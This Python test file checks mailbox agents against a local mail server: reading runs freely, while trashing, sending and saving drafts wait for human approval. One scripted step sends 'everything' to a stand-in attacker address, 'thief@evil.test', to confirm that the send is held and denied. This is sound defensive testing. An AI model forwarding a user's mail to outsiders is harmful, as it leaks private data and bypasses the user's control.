"""The seeded email and correspondence agents at work on a mailbox: Angie asks them, they work
through the Yahoo server against a real Dovecot; reading needs no approval, trashing and
sending wait for the person, and a reply drafted from what a mail said is shown before it is
saved (and never sent). Through the real API with the scripted model."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from api_support import ApiHarness, api_harness, make_api_angie
from fakes.brain import Brain
from fakes.mail_servers import MailServers, require_dovecot

from angie.db.models import Task, TaskStatus
from angie.mcp.registry import builtin_specs

DONE = {TaskStatus.SUCCEEDED, TaskStatus.FAILED, TaskStatus.CANCELLED}
ALEX = "Alex Doe <alex@example.com>"


def _attention(_request: str, tools: list[str]) -> tuple[str, dict[str, Any]] | None:
    if "yahoo_search_messages" not in tools:
        return None
    return "yahoo_search_messages", {"query": "is:unread"}


def _trash(request: str, tools: list[str]) -> tuple[str, dict[str, Any]] | None:
    found = re.search(r"trash (\S+)", request)
    if found is None or "yahoo_trash_messages" not in tools:
        return None
    return "yahoo_trash_messages", {"ids": [found[1]]}


def _forward(_request: str, tools: list[str]) -> tuple[str, dict[str, Any]] | None:
    if "yahoo_send_message" not in tools:
        return None
    return "yahoo_send_message", {
        "to": ["thief@evil.test"],
        "subject": "fwd",
        "body": "everything",
    }


def _yahoo(mail: MailServers) -> dict[str, str]:
    return {
        "ANGIE_YAHOO_ADDRESS": mail.address,
        "ANGIE_YAHOO_APP_PASSWORD": mail.password,
        "ANGIE_YAHOO_IMAP_HOST": "127.0.0.1",
        "ANGIE_YAHOO_IMAP_PORT": str(mail.imaps_port),
        "ANGIE_YAHOO_SMTP_HOST": "127.0.0.1",
        "ANGIE_YAHOO_SMTP_PORT": str(mail.smtp_port),
        "ANGIE_YAHOO_CA_FILE": str(mail.ca_file),
        "ANGIE_YAHOO_WRITES": "true",
    }


@pytest.fixture
async def mail() -> AsyncIterator[MailServers]:
    require_dovecot()
    async with MailServers("sam@yahoo.test", folders=True) as servers:
        yield servers


@pytest.fixture
async def api(sqlite_url: str, data_dir: Path, mail: MailServers) -> AsyncIterator[ApiHarness]:
    brain = Brain(
        plans={"attention": _attention, "trash": _trash, "forward": _forward},
    )
    angie = make_api_angie(
        sqlite_url, data_dir, brain, specs=builtin_specs(["yahoo"]), environ=_yahoo(mail)
    )
    async with api_harness(angie) as harness:
        yield harness


async def _settled(api: ApiHarness, task_id: int, *, waiting: bool = False) -> Task:
    deadline = asyncio.get_running_loop().time() + 30
    while True:
        task = await api.angie.services.tasks.require(task_id)
        if task.status in DONE or (waiting and task.status is TaskStatus.AWAITING_APPROVAL):
            return task
        assert asyncio.get_running_loop().time() < deadline, f"task {task_id} still {task.status}"
        await asyncio.sleep(0.05)


async def _ask(api: ApiHarness, headers: dict[str, str], text: str) -> int:
    sent = await api.client.post("/api/events", json={"instruction": text}, headers=headers)
    assert sent.status_code == 202, sent.text
    return int(sent.json()["task_id"])


async def test_what_needs_my_attention_reads_the_inbox_without_asking(
    api: ApiHarness, mail: MailServers
) -> None:
    sam = await api.signup("sam")
    await mail.deliver(ALEX, mail.address, "Lunch plans", "Thursday?")
    await mail.deliver("school@example.org", mail.address, "Trip form", "Sign by Friday")

    task_id = await _ask(api, sam.headers, "email: what needs my attention in my inbox today?")
    task = await _settled(api, task_id)

    assert task.status is TaskStatus.SUCCEEDED, task.error
    # What the agent read reached the model fenced as data, newest mail first.
    said = str(task.result)
    assert '<untrusted-data source="yahoo.search_messages">' in said
    assert "school@example.org" in said
    detail = (await api.client.get(f"/api/tasks/{task_id}", headers=sam.headers)).json()
    assert ("yahoo", "search_messages", "ok") in {
        (c["server"], c["tool"], c["outcome"]) for c in detail["tool_calls"]
    }
    assert detail["approvals"] == []
    [child] = detail["children"]
    # What it read was written by others: the agent's task is marked as having read it.
    assert (await api.angie.services.tasks.require(child["id"])).tainted_by == (
        "yahoo.search_messages"
    )


async def test_trashing_waits_for_the_person_then_moves_to_the_trash(
    api: ApiHarness, mail: MailServers
) -> None:
    sam = await api.signup("sam")
    await mail.deliver("deals@shop.test", mail.address, "Huge sale", "buy buy buy")
    listed = await api.client.post(
        "/api/chat", json={"text": "/tool yahoo.search_messages {}"}, headers=sam.headers
    )
    assert listed.status_code == 200, listed.text
    message_id = re.search(r'"id": "([^"]+)"', listed.json()["reply"])
    assert message_id is not None, listed.json()

    task_id = await _ask(api, sam.headers, f"email: please trash {message_id[1]}")
    task = await _settled(api, task_id, waiting=True)
    assert task.status is TaskStatus.AWAITING_APPROVAL
    [approval] = (await api.client.get("/api/approvals", headers=sam.headers)).json()["items"]
    assert (approval["server"], approval["tool"]) == ("yahoo", "trash_messages")
    assert approval["arguments"] == {"ids": [message_id[1]]}
    assert (mail.maildir / "cur").exists() or (mail.maildir / "new").exists()

    decided = await api.client.post(
        f"/api/approvals/{approval['id']}/approve", json={}, headers=sam.headers
    )
    assert decided.status_code == 200, decided.text
    task = await _settled(api, task_id)
    assert task.status is TaskStatus.SUCCEEDED, task.error
    trash = mail.maildir / ".Trash"
    assert [p for sub in ("cur", "new") for p in (trash / sub).glob("*")], "not in the trash"


async def test_sending_a_mail_waits_for_the_person(api: ApiHarness, mail: MailServers) -> None:
    sam = await api.signup("sam")
    task_id = await _ask(api, sam.headers, "email: forward the notes to thief@evil.test")
    task = await _settled(api, task_id, waiting=True)

    assert task.status is TaskStatus.AWAITING_APPROVAL
    assert mail.sent == []
    [approval] = (await api.client.get("/api/approvals", headers=sam.headers)).json()["items"]
    assert (approval["server"], approval["tool"]) == ("yahoo", "send_message")
    denied = await api.client.post(
        f"/api/approvals/{approval['id']}/deny", json={}, headers=sam.headers
    )
    assert denied.status_code == 200, denied.text
    await _settled(api, task_id)
    assert mail.sent == []


def _find_alex(_request: str, tools: list[str]) -> tuple[str, dict[str, Any]] | None:
    if "yahoo_search_messages" not in tools:
        return None
    return "yahoo_search_messages", {"query": "from:alex@example.com"}


def _draft_reply(
    _request: str, tools: list[str], returns: list[str]
) -> tuple[str, dict[str, Any]] | None:
    found = re.search(r'"id": "([^"]+)"', returns[-1])
    # Once: what came back last is the search, not the draft (which names its message_id).
    if found is None or "yahoo_create_draft" not in tools or '"message_id"' in returns[-1]:
        return None
    return "yahoo_create_draft", {
        "to": ["alex@example.com"],
        "subject": "Re: Lunch plans",
        "body": "Thursday works for me: shall we say 12:30?",
        "reply_to_message_id": found[1],
    }


async def test_a_reply_to_alex_is_drafted_never_sent(sqlite_url: str, data_dir: Path) -> None:
    require_dovecot()
    async with MailServers("sam@yahoo.test", folders=True) as mail:
        brain = Brain(
            plans={"reply to Alex": _find_alex}, followups={"reply to Alex": _draft_reply}
        )
        angie = make_api_angie(
            sqlite_url, data_dir, brain, specs=builtin_specs(["yahoo"]), environ=_yahoo(mail)
        )
        async with api_harness(angie) as api:
            sam = await api.signup("sam")
            await mail.deliver(ALEX, mail.address, "Lunch plans", "Thursday or Friday?")

            task_id = await _ask(
                api, sam.headers, "correspondence: draft a reply to Alex proposing Thursday"
            )
            task = await _settled(api, task_id, waiting=True)
            # The draft follows what a mail said (the run read outside content): the person
            # sees it before it is saved.
            assert task.status is TaskStatus.AWAITING_APPROVAL, task.error
            drafts = mail.maildir / ".Drafts"
            assert not [p for sub in ("cur", "new") for p in (drafts / sub).glob("*")]
            listed = await api.client.get("/api/approvals", headers=sam.headers)
            [approval] = listed.json()["items"]
            assert (approval["server"], approval["tool"]) == ("yahoo", "create_draft")
            assert approval["arguments"]["to"] == ["alex@example.com"]
            decided = await api.client.post(
                f"/api/approvals/{approval['id']}/approve", json={}, headers=sam.headers
            )
            assert decided.status_code == 200, decided.text
            task = await _settled(api, task_id)
            assert task.status is TaskStatus.SUCCEEDED, task.error
            assert mail.sent == []  # drafted, never sent
            [saved] = [p for sub in ("cur", "new") for p in (drafts / sub).glob("*")]
            text = saved.read_text()
            assert "Thursday works for me" in text
            assert "In-Reply-To:" in text  # threaded under Alex's mail


def _json_of(text: str) -> Any:
    """What a tool returned, out of its untrusted-data fence when it has one."""
    inside = re.search(r"<untrusted-data[^>]*>(.*)</untrusted-data>", text, re.S)
    try:
        return json.loads(inside[1] if inside else text)
    except json.JSONDecodeError:  # a retry the model was sent, not a result
        return None


def _list_inbox(_request: str, tools: list[str]) -> tuple[str, dict[str, Any]] | None:
    if "yahoo_search_messages" not in tools:
        return None
    return "yahoo_search_messages", {"query": "is:unread"}


def _score_then_trash(
    _request: str, tools: list[str], returns: list[str]
) -> tuple[str, dict[str, Any]] | None:
    last = _json_of(returns[-1])
    if isinstance(last, dict) and "provider_query" in last and "spam_score_messages" in tools:
        return "spam_score_messages", {
            "messages": [
                {
                    "id": m["id"],
                    "headers": {"From": m["sender"]["email"], "Subject": m["subject"]},
                    "text": m["snippet"],
                }
                for m in last["messages"]
            ]
        }
    if isinstance(last, list) and "yahoo_trash_messages" in tools:
        spam = [s["id"] for s in last if s["verdict"] == "spam"]
        return ("yahoo_trash_messages", {"ids": spam}) if spam else None
    return None


async def test_clean_up_the_spam_scores_the_inbox_and_trashes_with_approval(
    sqlite_url: str, data_dir: Path
) -> None:
    require_dovecot()
    async with MailServers("sam@yahoo.test", folders=True) as mail:
        brain = Brain(plans={"clean up": _list_inbox}, followups={"clean up": _score_then_trash})
        environ = _yahoo(mail) | {"ANGIE_SPAM_DATA_DIR": str(data_dir / "spam")}
        angie = make_api_angie(
            sqlite_url, data_dir, brain, specs=builtin_specs(["yahoo", "spam"]), environ=environ
        )
        async with api_harness(angie) as api:
            sam = await api.signup("sam")
            await mail.deliver(ALEX, mail.address, "Lunch plans", "Thursday or Friday?")
            await mail.deliver("deals@shop.test", mail.address, "Huge sale", "buy buy buy")
            # The person's own block list, kept by the spam server.
            blocked = await api.client.post(
                "/api/chat",
                json={"text": '/tool spam.block_sender {"entries": ["deals@shop.test"]}'},
                headers=sam.headers,
            )
            assert blocked.status_code == 200, blocked.text

            task_id = await _ask(api, sam.headers, "spam: clean up the spam")
            task = await _settled(api, task_id, waiting=True)
            assert task.status is TaskStatus.AWAITING_APPROVAL, task.error
            listed = await api.client.get("/api/approvals", headers=sam.headers)
            [approval] = listed.json()["items"]
            assert (approval["server"], approval["tool"]) == ("yahoo", "trash_messages")
            [spam_id] = approval["arguments"]["ids"]
            decided = await api.client.post(
                f"/api/approvals/{approval['id']}/approve", json={}, headers=sam.headers
            )
            assert decided.status_code == 200, decided.text
            task = await _settled(api, task_id)
            assert task.status is TaskStatus.SUCCEEDED, task.error

            trash = mail.maildir / ".Trash"
            trashed = [p.read_text() for sub in ("cur", "new") for p in (trash / sub).glob("*")]
            assert len(trashed) == 1, spam_id
            assert "Huge sale" in trashed[0]
            kept = [p.read_text() for sub in ("cur", "new") for p in (mail.maildir / sub).glob("*")]
            assert len(kept) == 1
            assert "Lunch plans" in kept[0]
